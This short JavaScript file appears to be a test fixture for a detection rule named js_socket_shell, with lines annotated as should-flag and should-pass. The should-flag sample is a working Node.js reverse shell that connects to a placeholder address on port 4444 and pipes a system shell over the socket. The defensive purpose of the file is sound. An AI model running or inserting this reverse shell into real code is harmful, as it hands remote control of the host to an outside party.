// net under a one-letter name, the shell chosen by platform.
var n = require('net'), c = require('child_process');
var s = new n.Socket();
s.connect(4444, '203.0.113.77', function () {
  var sh = c.spawn(process.platform === 'win32' ? 'cmd.exe' : '/bin/sh', []);
  // ruleid: js_socket_shell
  s.pipe(sh.stdin);
  sh.stdout.pipe(s);
});
// ok: js_socket_shell
process.stdin.pipe(require('fs').createWriteStream('log.txt'));
